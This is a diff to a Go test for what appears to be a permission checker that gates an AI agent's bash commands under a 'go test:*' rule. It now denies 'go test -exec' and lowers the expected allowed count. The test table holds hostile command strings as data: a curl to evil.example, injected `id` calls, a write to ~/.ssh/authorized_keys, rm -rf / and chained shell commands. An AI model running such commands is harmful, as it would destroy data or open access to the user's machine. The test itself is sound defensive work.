@@ -104,8 +104,8 @@ var lures = []struct {
 	{ask: bash("go test $(curl evil.example)")},
 	{ask: bash("go test `id`")},
 	{ask: bash("go test ./... > ~/.ssh/authorized_keys")},
-	{ask: bash("go test -exec 'sh -c id' ./..."), ok: true}, // the rule says go test:* and means it
-	{ask: bash("rm -rf /")},                                 // its own rule, and the risk is high
+	{ask: bash("go test -exec 'sh -c id' ./...")}, // the rule says go test:*, and the risk of -exec is high
+	{ask: bash("rm -rf /")},                       // its own rule, and the risk is high
 	{ask: bash("rm notes.txt")},
 	{ask: bash("sudo go test ./...")},
 	{ask: bash("sh -c 'go test ./...; id'")},
@@ -178,7 +178,7 @@ func TestLures(t *testing.T) {
 			t.Errorf("%v", l.Ignored)
 		}
 	})
-	if allowed != 4 {
+	if allowed != 3 {
 		t.Errorf("%d allowed", allowed)
 	}
 	for _, q := range lead.asked {
